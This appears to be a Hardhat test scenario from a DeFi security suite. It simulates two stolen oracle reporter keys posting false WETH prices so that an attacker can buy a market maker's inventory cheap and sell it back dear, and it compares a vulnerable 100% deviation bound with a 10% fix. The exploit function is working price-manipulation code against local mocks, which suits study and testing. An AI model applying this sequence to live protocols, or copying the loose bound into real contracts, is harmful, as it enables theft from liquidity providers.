import {
  REPORTER_MAX_DEVIATION_BPS,
  REPORTER_QUORUM,
  REPORTER_WINDOW,
  START_PRICES,
} from "../../ignition/modules/Lending.js";
import {
  MockERC20__factory,
  OracleSwap__factory,
  ReporterOracle__factory,
  type MockERC20,
  type OracleSwap,
  type ReporterOracle,
  type WETH,
} from "../../typechain-types/index.js";
import type { HardhatEthersSigner } from "@nomicfoundation/hardhat-ethers/types";
import { formatAmount } from "./format.js";
import { commonChecks } from "./run.js";
import { send } from "./steps.js";
import type { Holdings, Scenario, World } from "./types.js";

const WAD = 10n ** 18n;
const USDC_UNIT = 10n ** 6n;

/** The market maker's inventory in the OracleSwap: 100 WETH and 200,000 USDC ($400,000 at $2,000). */
export const INVENTORY = { weth: 100n * WAD, usdc: 200_000n * USDC_UNIT } as const;
/** The attacker's own stake: enough USDC to buy the whole WETH inventory at half price. */
export const ATTACKER_USDC = 110_000n * USDC_UNIT;
/** WETH's true price, USD with 18 decimals: what every honest report says. */
export const TRUE_PRICE = START_PRICES.weth;
/** The false prices the two stolen keys post, in order: half, back, then double. */
export const FALSE_PRICES = [TRUE_PRICE / 2n, TRUE_PRICE, TRUE_PRICE * 2n] as const;
/** The vulnerable oracle's deviation bound: 100%, that is none worth the name. */
export const LOOSE_MAX_DEVIATION_BPS = 10_000n;
/** Oldest price the OracleSwap accepts, in seconds. */
export const SWAP_MAX_PRICE_AGE = 3_600n;

/** USDC base units for `weth` base units at WETH's true price. */
export function wethAtTruePrice(weth: bigint): bigint {
  return (weth * TRUE_PRICE * USDC_UNIT) / (WAD * WAD);
}

export interface ReportersWorld extends World {
  oracle: ReporterOracle;
  swap: OracleSwap;
  weth: WETH;
  usdc: MockERC20;
  /** The two reporter keys the attacker stole. */
  stolenKeys: [HardhatEthersSigner, HardhatEthersSigner];
}

async function valueAtTruePrice(world: ReportersWorld, account: string): Promise<bigint> {
  return (
    (await world.usdc.balanceOf(account)) + wethAtTruePrice(await world.weth.balanceOf(account))
  );
}

/** Both stolen keys report `price`: with the honest third report, the median is theirs. */
async function postWithStolenKeys(world: ReportersWorld, price: bigint): Promise<void> {
  const weth = await world.weth.getAddress();
  for (const key of world.stolenKeys) await send(world.oracle.connect(key).submit(weth, price));
  world.env.log(
    `  the stolen keys report WETH at ${formatAmount(price, 18, "USD")}; published: ${formatAmount((await world.oracle.getPrice(weth))[0], 18, "USD")}`,
  );
}

/**
 * Two of three reporter keys are stolen; the attacker posts a false low price, buys the market
 * maker's WETH cheap, posts a false high price and sells it back dear.
 */
export const compromisedReporters: Scenario<ReportersWorld> = {
  name: "compromised-reporters",
  title: "Compromised reporters: two of three oracle keys post false prices",
  incident:
    "Poly Network, 2021-08-10: ~$611M; the keepers whose signatures the bridge trusted were replaced by the attacker's",
  fix: "the core ReporterOracle's 10% bound per window beside its median of all three reporters",

  async setup(env, side) {
    const { actors, sandbox, log } = env;
    const { deployer, carol, attacker, dave, keeper } = actors;
    const weth = sandbox.weth;
    const usdc = MockERC20__factory.connect(await sandbox.usdc.getAddress(), deployer);
    const wethAddress = await weth.getAddress();
    const maxDeviation =
      side === "vulnerable" ? LOOSE_MAX_DEVIATION_BPS : REPORTER_MAX_DEVIATION_BPS;

    // Reporters: the deployer (honest), and dave and the keeper, whose keys the attacker holds.
    const oracle = await new ReporterOracle__factory(deployer).deploy(
      deployer.address,
      [deployer.address, dave.address, keeper.address],
      REPORTER_QUORUM,
      maxDeviation,
      REPORTER_WINDOW,
    );
    await oracle.waitForDeployment();
    for (const reporter of [deployer, dave, keeper]) {
      await send(oracle.connect(reporter).submit(wethAddress, TRUE_PRICE));
    }
    log(
      `  a ReporterOracle: 3 reporters, quorum ${REPORTER_QUORUM}, maximum deviation ${Number(maxDeviation) / 100}% a window; WETH at ${formatAmount(TRUE_PRICE, 18, "USD")}`,
    );

    // Carol makes a market at the oracle's price from her own inventory.
    const swap = await new OracleSwap__factory(carol).deploy(
      carol.address,
      wethAddress,
      await usdc.getAddress(),
      await oracle.getAddress(),
      SWAP_MAX_PRICE_AGE,
    );
    await swap.waitForDeployment();
    const swapAddress = await swap.getAddress();
    await send(weth.connect(carol).deposit({ value: INVENTORY.weth }));
    await send(weth.connect(carol).transfer(swapAddress, INVENTORY.weth));
    await send(usdc.faucet(swapAddress, INVENTORY.usdc));
    log(
      `  carol's OracleSwap holds ${formatAmount(INVENTORY.weth, 18, "WETH")} and ${formatAmount(INVENTORY.usdc, 6, "USDC")}`,
    );
    await send(usdc.faucet(attacker.address, ATTACKER_USDC));

    return {
      side,
      env,
      attacker,
      contract:
        side === "vulnerable"
          ? "OracleSwap + ReporterOracle, 100% max deviation"
          : "OracleSwap + ReporterOracle, 10% max deviation",
      oracle,
      swap,
      weth,
      usdc,
      stolenKeys: [dave, keeper],
      tracked: {
        asset: { kind: "erc20", symbol: "USDC", decimals: 6, token: usdc },
        attacker: [attacker.address],
        victims: [carol.address],
        protocol: swapAddress,
        victimsClaims: INVENTORY.usdc + wethAtTruePrice(INVENTORY.weth),
        dust: 0n,
      },
      errorInterfaces: [oracle.interface, swap.interface],
    };
  },

  async exploit(world) {
    const { attacker, swap, weth, usdc, env } = world;
    const swapAddress = await swap.getAddress();
    const wethAddress = await weth.getAddress();
    const usdcAddress = await usdc.getAddress();
    const [low, back, high] = FALSE_PRICES;

    await postWithStolenKeys(world, low);
    const wethStock = await weth.balanceOf(swapAddress);
    const cost = await swap.amountInForExactUp(wethAddress, wethStock);
    env.log(
      `  attacker buys all ${formatAmount(wethStock, 18, "WETH")} for ${formatAmount(cost, 6, "USDC")}`,
    );
    await send(usdc.connect(attacker).approve(swapAddress, cost));
    await send(swap.connect(attacker).swapForExact(wethAddress, wethStock, cost));

    await postWithStolenKeys(world, back);
    await postWithStolenKeys(world, high);
    const usdcStock = await usdc.balanceOf(swapAddress);
    const wethIn = await swap.amountInForExactUp(usdcAddress, usdcStock);
    env.log(
      `  attacker sells ${formatAmount(wethIn, 18, "WETH")} for all ${formatAmount(usdcStock, 6, "USDC")}`,
    );
    await send(weth.connect(attacker).approve(swapAddress, wethIn));
    await send(swap.connect(attacker).swapForExact(usdcAddress, usdcStock, wethIn));
  },

  async settle(world) {
    const { carol } = world.env.actors;
    const swapAddress = await world.swap.getAddress();
    for (const token of [world.weth, world.usdc]) {
      const stock = await token.balanceOf(swapAddress);
      if (stock === 0n) continue;
      await send(
        world.swap.connect(carol).withdraw(await token.getAddress(), stock, carol.address),
      );
    }
    world.env.log("  carol takes her inventory back");
  },

  async measure(world): Promise<Holdings> {
    return {
      attacker: await valueAtTruePrice(world, world.attacker.address),
      victims: await valueAtTruePrice(world, world.env.actors.carol.address),
      protocol: await valueAtTruePrice(world, world.tracked.protocol),
    };
  },

  check: commonChecks,
};
